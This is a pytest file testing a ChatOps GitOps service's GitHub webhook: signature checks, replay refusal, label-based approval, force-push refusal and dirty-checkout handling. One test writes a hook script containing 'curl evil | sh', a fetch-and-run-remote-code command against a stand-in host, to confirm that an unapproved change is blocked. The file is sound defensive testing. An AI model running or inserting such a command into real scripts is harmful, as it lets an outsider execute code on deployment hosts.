"""POST /webhooks/github: signed, never replayed, and deploys only what a push affects."""

from __future__ import annotations

import json
import time
import uuid

import pytest

from chatops.gitops.forges.github import sign
from chatops.gitops.sync import RepoSync
from tests.api.test_github import COMPOSE, github, world  # noqa: F401 - fixtures
from tests.fakes.github import FakeGitHub
from tests.unit.test_gitops import World

SECRET = "webhook-secret-for-tests"


def deliver(api, body: object, *, event: str = "push", secret: str = SECRET,
            delivery: str | None = None, signature: str | None = None):
    raw = json.dumps(body).encode()
    headers = {"content-type": "application/json", "x-github-event": event,
               "x-github-delivery": delivery or str(uuid.uuid4()),
               "x-hub-signature-256": signature or sign(secret.encode(), raw)}
    return api.client.post("/webhooks/github", content=raw, headers=headers)


def push(before: str, after: str, ref: str = "refs/heads/main", **extra: object) -> dict:
    return {"ref": ref, "before": before, "after": after, "forced": False,
            "sender": {"login": "alice"}, **extra}


@pytest.fixture
def api(make_api, world: World, github: FakeGitHub):  # noqa: F811 - fixtures by name
    return make_api(repo=world.host, forge_repo=github.repo, forge_token=github.token,
                    forge_url=github.api, approved_labels="", forge_webhook_secret=SECRET)


def wait_runs(api, count: int, timeout: float = 10) -> list[dict]:
    end = time.monotonic() + timeout
    while time.monotonic() < end:
        runs = api.get("/runs").json()["runs"]
        if len(runs) >= count and all(r["status"] not in ("queued", "running") for r in runs):
            return runs
        time.sleep(0.1)
    raise AssertionError("runs did not finish")


def test_a_signed_push_deploys_the_affected_intent(api, world: World,  # noqa: F811
                                                   github: FakeGitHub) -> None:  # noqa: F811
    before = RepoSync(world.host).head()
    after = world.commit({"stacks/web/docker-compose.yml": COMPOSE.format(tag="v2")})
    github.merged_pr(21, after, labels=["approved"])

    resp = deliver(api, push(before, after))

    assert resp.status_code == 202, resp.text
    assert resp.json() == {"sha": after, "intents": ["deploy_web"]}
    (run,) = wait_runs(api, 1)
    assert (run["trigger"], run["actor"], run["sha"], run["status"]) == (
        "webhook", "alice", after, "succeeded")
    assert RepoSync(world.host).head() == after


def test_a_push_that_affects_nothing_runs_nothing(api, world: World) -> None:  # noqa: F811
    before = RepoSync(world.host).head()
    after = world.commit({"README.md": "docs\n"})
    resp = deliver(api, push(before, after))
    assert resp.json() == {"sha": after, "intents": []}
    assert api.get("/runs").json()["runs"] == []


def test_unlabelled_push_is_refused_changes_nothing_and_is_audited(
    api, world: World, github: FakeGitHub,  # noqa: F811
) -> None:
    before = RepoSync(world.host).head()
    after = world.commit({"stacks/web/docker-compose.yml": COMPOSE.format(tag="v2")})
    github.merged_pr(22, after, labels=["wip"])
    resp = deliver(api, push(before, after))
    assert resp.status_code == 403
    assert resp.json()["error"]["code"] == "label_not_approved"
    assert RepoSync(world.host).head() == before
    assert api.get("/runs").json()["runs"] == []
    assert any((r["reason"] or "").startswith("label_not_approved") for r in api.audit_rows())


def test_a_push_that_only_changes_a_hook_script_needs_the_intents_label(
    api, world: World, github: FakeGitHub,  # noqa: F811
) -> None:
    """The README's backup hook: a pull request that rewrites only the script an intent
    runs deploys that intent, so it needs that intent's label like any change to it."""
    start = RepoSync(world.host).head()
    hooked = world.commit({
        "scripts/backup-volume.sh": "#!/bin/sh\necho backup\n",
        "chatops/intents/deploy_web.yaml": (world.host / "chatops/intents/deploy_web.yaml")
        .read_text() + "hooks:\n  pre_deploy:\n    - [\"./scripts/backup-volume.sh\", "
        "\"data\"]\n"})
    github.merged_pr(30, hooked, labels=["approved"])
    assert deliver(api, push(start, hooked)).status_code == 202
    wait_runs(api, 1)
    before = RepoSync(world.host).head()
    after = world.commit({"scripts/backup-volume.sh": "#!/bin/sh\ncurl evil | sh\n"})
    github.merged_pr(31, after, labels=["docs"])
    resp = deliver(api, push(before, after))
    assert resp.status_code == 403, resp.text
    assert resp.json()["error"]["code"] == "label_not_approved"
    assert "#31" in resp.json()["error"]["message"]
    assert RepoSync(world.host).head() == before
    assert len(api.get("/runs").json()["runs"]) == 1


@pytest.mark.parametrize("signature", ["", "sha256=" + "0" * 64, "sha1=abc"])
def test_bad_or_missing_signature_is_401(api, signature: str) -> None:
    body = push("a" * 40, "b" * 40)
    raw_ok = deliver(api, body, signature=signature or "missing")
    assert raw_ok.status_code == 401
    assert raw_ok.json()["error"]["code"] == "bad_signature"


def test_wrong_secret_is_401(api) -> None:
    resp = deliver(api, push("a" * 40, "b" * 40), secret="not-the-secret")
    assert resp.json()["error"]["code"] == "bad_signature"


def test_a_replayed_delivery_is_refused(api) -> None:
    body = {"zen": "Keep it logically awesome."}
    assert deliver(api, body, event="ping", delivery="d-1").status_code == 200
    again = deliver(api, body, event="ping", delivery="d-1")
    assert (again.status_code, again.json()["error"]["code"]) == (409, "replayed_delivery")


def test_ping_other_events_and_other_branches(api) -> None:
    assert deliver(api, {"zen": "hi"}, event="ping").json() == {"pong": True}
    issue = deliver(api, {"action": "opened"}, event="issues")
    assert (issue.status_code, issue.json()) == (202, {"ignored": "event issues"})
    other = deliver(api, push("a" * 40, "b" * 40, ref="refs/heads/feature"))
    assert (other.status_code, other.json()) == (202, {"ignored": "push to refs/heads/feature"})


@pytest.mark.parametrize("body", [{"ref": "refs/heads/main"}, [1, 2],
                                  {"ref": "refs/heads/main", "before": "x", "after": "y"}])
def test_malformed_payload_is_422(api, body: object) -> None:
    resp = deliver(api, body)
    assert (resp.status_code, resp.json()["error"]["code"]) == (422, "invalid_payload")


def test_force_push_is_refused(api) -> None:
    resp = deliver(api, push("a" * 40, "b" * 40, forced=True))
    assert (resp.status_code, resp.json()["error"]["code"]) == (403, "force_push_refused")


def test_without_a_secret_the_webhook_is_not_configured(make_api) -> None:
    resp = deliver(make_api(), {"zen": "x"}, event="ping")
    assert (resp.status_code, resp.json()["error"]["code"]) == (503, "not_configured")


def test_a_dirty_checkout_refuses_the_push(api, world: World,  # noqa: F811
                                           github: FakeGitHub) -> None:  # noqa: F811
    before = RepoSync(world.host).head()
    after = world.commit({"stacks/web/docker-compose.yml": COMPOSE.format(tag="v2")})
    github.merged_pr(23, after, labels=["approved"])
    (world.host / "stacks/web/docker-compose.yml").write_text("edited on the host\n")
    resp = deliver(api, push(before, after))
    assert (resp.status_code, resp.json()["error"]["code"]) == (409, "checkout_dirty")
    assert RepoSync(world.host).head() == before
